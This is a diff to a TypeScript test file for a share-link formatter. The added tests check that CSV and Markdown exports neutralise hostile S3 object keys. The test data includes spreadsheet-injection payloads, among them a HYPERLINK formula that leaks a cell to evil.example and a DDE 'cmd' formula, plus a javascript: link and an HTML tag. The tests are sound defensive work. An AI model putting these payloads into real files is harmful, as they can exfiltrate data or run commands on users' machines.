@@ -1,4 +1,5 @@
 import * as assert from 'node:assert/strict';
+import fc from 'fast-check';
 import { csvField, formatShare, isFolderMarker, markdownText, parseShareFolderArgs, shareLanguage, type SharedLink } from '../../src/core/shareFormat';
 
 const expiresAt = new Date('2024-05-01T13:34:56Z');
@@ -69,6 +70,77 @@ describe('core shareFormat', () => {
     assert.equal(csvField('line\r\nbreak'), '"line\r\nbreak"');
     assert.equal(csvField(' edge'), '" edge"');
     assert.equal(csvField(''), '');
+  });
+
+  describe('CSV injection (OWASP; issue 12 item 3)', () => {
+    const hostile = [
+      '=1+1',
+      '+SUM(A1:A2)',
+      '@SUM(1)',
+      '-2+3',
+      '=HYPERLINK("http://evil.example/?"&C3,"Open")',
+      '\t=1+1',
+      '\r=1+1',
+      ' =1+1',
+      '\n=1+1',
+      "=cmd|' /C calc'!A0",
+    ];
+    const rows = hostile.map((key, i) => ({ key, size: i, url: `https://b.s3.amazonaws.com/${encodeURIComponent(key)}?X-Amz-Signature=${i}`, expiresAt }));
+
+    it('neutralises every field a spreadsheet would run, quoted with a leading single quote', () => {
+      const parsed = parseCsv(formatShare(rows, 'csv', 's3://b/'));
+      rows.forEach((link, i) => {
+        const [key, size, url] = parsed[i + 1];
+        assert.equal(key, `'${link.key}`, JSON.stringify(link.key));
+        assert.equal(url, link.url, 'the URL stays exact and usable');
+        assert.equal(size, String(link.size));
+      });
+    });
+
+    it('never lets a field start with a formula character', () => {
+      for (const key of hostile) {
+        const field = csvField(key);
+        assert.ok(field.startsWith(`"'`), field);
+      }
+    });
+
+    it('leaves URLs, dates, sizes and ordinary keys untouched', () => {
+      const url = 'https://b.s3.amazonaws.com/k?X-Amz-Credential=AKID%2F20250101&X-Amz-Signature=ab';
+      assert.equal(csvField(url), url);
+      assert.equal(csvField('2024-05-01T13:34:56.000Z'), '2024-05-01T13:34:56.000Z');
+      assert.equal(csvField(0), '0');
+      assert.equal(csvField('a-b=c@d+e.txt'), 'a-b=c@d+e.txt');
+    });
+  });
+
+  it('markdown: a key cannot break the table, the link or the row (issue 12 item 3)', () => {
+    const keys = ['a|b', '[x](javascript:alert(1))', 'tick`code`', 'line\nbreak', 'cr\rlf\r\n', '&lt;b&gt;', '~~gone~~', '<img src=x>', '**bold**', '$x$', 'a\\|b'];
+    const hostileLinks = keys.map((key, i) => ({ key, size: i, url: `https://b.s3.amazonaws.com/k${i}?X-Amz-Signature=${i}`, expiresAt }));
+    const text = formatShare(hostileLinks, 'markdown', 's3://b/');
+    const rows = text.split('\n').filter((line) => line.startsWith('| ['));
+    assert.equal(rows.length, keys.length, 'one line per key');
+    rows.forEach((row, i) => {
+      // Cells are split by pipes that are not backslash-escaped.
+      const cells = row.split(/(?<!\\)(?:\\\\)*\|/);
+      assert.equal(cells.length, 5, row);
+      assert.ok(row.includes(`](<${hostileLinks[i].url}>) | ${i} |`), row);
+      // Link text: no unescaped bracket, backtick, &, ~ or < left.
+      const label = row.slice(3, row.indexOf(`](<${hostileLinks[i].url}>)`));
+      assert.doesNotMatch(label.replace(/\\./g, ''), /[[\]`&~<>*_$|]/, label);
+    });
+  });
+
+  it('markdown: a key cannot break the table, the link or the row (property)', () => {
+    fc.assert(
+      fc.property(fc.string({ unit: fc.constantFrom(...'ab|[]()`\\*_<>&~#!\n\r\t $'), maxLength: 30 }), (key) => {
+        const url = 'https://b.s3.amazonaws.com/k?X-Amz-Signature=1';
+        const text = formatShare([{ key, size: 1, url, expiresAt }], 'markdown', 's3://b/');
+        const row = text.split('\n')[4];
+        assert.equal(text.split('\n').length, 6, 'title, blank, header, rule, row, final newline');
+        assert.equal(row.split(/(?<!\\)(?:\\\\)*\|/).length, 5);
+        assert.ok(row.endsWith(`](<${url}>) | 1 | 2024-05-01T13:34:56.000Z |`), row);
+      }),
+    );
   });
 
   it('markdown: a titled table, keys escaped, URLs as link destinations', () => {
